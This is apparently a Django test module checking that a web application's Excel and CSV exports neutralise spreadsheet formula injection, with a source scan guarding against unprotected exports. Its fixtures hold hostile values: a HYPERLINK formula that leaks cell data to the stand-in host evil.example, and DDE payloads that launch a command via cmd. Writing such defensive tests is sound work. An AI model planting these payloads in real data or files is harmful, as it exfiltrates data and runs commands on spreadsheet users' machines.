"""Formula injection (issue 10 item 4): every Excel and CSV export writes a text cell beginning with
=, +, -, @ (or a tab / carriage return) with a leading quote, so a spreadsheet shows it as text.

Each export is fetched through its view with a hostile value in the data (an employee named
``=HYPERLINK(...)``, an audit reason, an import problem); the source guard at the end makes sure no
new export can bypass kefu/core/tabular.py.
"""

import csv
import io
import re
from pathlib import Path

from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from kefu.core import audit
from kefu.core.tabular import neutralise, write_xlsx
from kefu.evaluations import services as evaluation_services
from kefu.evaluations.tests.monthly_data import AFTER_MARCH, MONTH, YEAR, build_march
from kefu.people.models import Employee
from kefu.people.testing import KefuTestCase
from kefu.service.models import ImportBatch
from kefu.service.tests.test_kpis import build_kpi_data

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def sheet_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


class XlsxAssertions:
    def assert_neutralised_xlsx(self, content: bytes, hostile: str) -> None:
        cells = sheet_cells(content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []  # not one formula in the file
        values = [c.value for c in cells]
        assert "'" + hostile in values
        assert hostile not in values


def test_neutralise_each_prefix():
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
    for text in ("王小美", "1-2", "a=b", "", "'=already"):
        assert neutralise(text) == text
    for value in (-196.3, 5, None):
        assert neutralise(value) == value  # numbers are numbers, a negative amount too


def test_write_xlsx_never_writes_a_formula():
    content = write_xlsx(["=header"], [["=1+1", "+1", "-2+3", "@x", -4]])
    cells = sheet_cells(content)
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if c.value is not None] == ["'=header", "'=1+1", "'+1", "'-2+3", "'@x", -4]


class EmployeeAndAuditExportTests(XlsxAssertions, KefuTestCase):
    def test_employee_export(self):
        Employee.objects.filter(pk=self.agent.employee.pk).update(name=HOSTILE)
        self.client.force_login(self.hr)
        response = self.client.get(reverse("people:employee_export"))
        assert response.status_code == 200
        self.assert_neutralised_xlsx(response.content, HOSTILE)

    def test_audit_export(self):
        audit.record(actor=self.sysadmin, action="test.note", obj=self.agent.employee, reason="@SUM(1+1)*cmd|' /C calc'!A0")
        self.client.force_login(self.sysadmin)
        response = self.client.get(reverse("core:audit_export"))
        assert response.status_code == 200
        self.assert_neutralised_xlsx(response.content, "@SUM(1+1)*cmd|' /C calc'!A0")


class MonthlyExportTests(XlsxAssertions, KefuTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        build_march(cls)
        evaluation_services.monthly_drafts_create(actor=None, year=YEAR, month=MONTH, now=AFTER_MARCH)

    def test_monthly_export(self):
        Employee.objects.filter(pk=self.agent.employee.pk).update(name=HOSTILE)
        self.client.force_login(self.supervisor)
        response = self.client.get(reverse("evaluations:monthly_export"), {"period": f"{YEAR}-{MONTH:02d}"})
        assert response.status_code == 200
        self.assert_neutralised_xlsx(response.content, HOSTILE)


class KpiExportTests(XlsxAssertions, KefuTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        build_kpi_data(cls)

    def test_kpi_team_export(self):
        Employee.objects.filter(pk=self.agent.employee.pk).update(name="-2+3+cmd|' /C calc'!A0")
        self.client.force_login(self.supervisor)
        response = self.client.get(reverse("service:kpi_team_export"), {"period": "2026-03"})
        assert response.status_code == 200
        self.assert_neutralised_xlsx(response.content, "-2+3+cmd|' /C calc'!A0")


class ImportProblemsCsvTests(KefuTestCase):
    def test_problems_csv(self):
        batch = ImportBatch.objects.create(
            kind=ImportBatch.Kind.INTERACTIONS, via=ImportBatch.Via.API, status=ImportBatch.Status.FAILED,
            created_by=self.sysadmin,
            errors=[{"row": 2, "field": "+agent_no", "message": HOSTILE}])
        self.client.force_login(self.sysadmin)
        response = self.client.get(reverse("service:import_errors", args=[batch.pk]))
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[1] == ["2", "'+agent_no", "'" + HOSTILE]


# ---- no export bypasses tabular.py ----------------------------------------------------------------------

ROOT = Path(settings.BASE_DIR) / "kefu"
# Files whose csv.writer writes no export: PostgreSQL COPY staging and a benchmark's generated file.
NOT_EXPORTS = {"service/bulk.py", "service/bench.py", "bench.py"}


def _sources() -> list[tuple[str, str]]:
    return [(str(p.relative_to(ROOT)), p.read_text(encoding="utf-8")) for p in sorted(ROOT.rglob("*.py"))
            if "tests" not in p.parts and "migrations" not in p.parts]


def test_every_csv_export_neutralises_its_text_cells():
    writers = [(name, text) for name, text in _sources() if "csv.writer(" in text and name not in NOT_EXPORTS]
    assert writers  # the pay and import-problem exports at least
    for name, text in writers:
        functions = re.split(r"\ndef ", text)
        # Helpers of the module that neutralise (e.g. a _csv_cell(value) used for every cell).
        helpers = [f.split("(", 1)[0] for f in functions if "neutralise(" in f]
        for function in functions:
            if "csv.writer(" in function:
                assert "neutralise(" in function or any(f"{h}(" in function for h in helpers), \
                    f"{name}: a csv.writer without neutralise()"


def test_only_tabular_builds_workbooks():
    """An .xlsx export made with openpyxl directly would skip neutralise(); they all use write_xlsx."""
    offenders = [name for name, text in _sources()
                 if re.search(r"\bWorkbook\(|xlsxwriter", text) and name != "core/tabular.py"]
    assert offenders == []
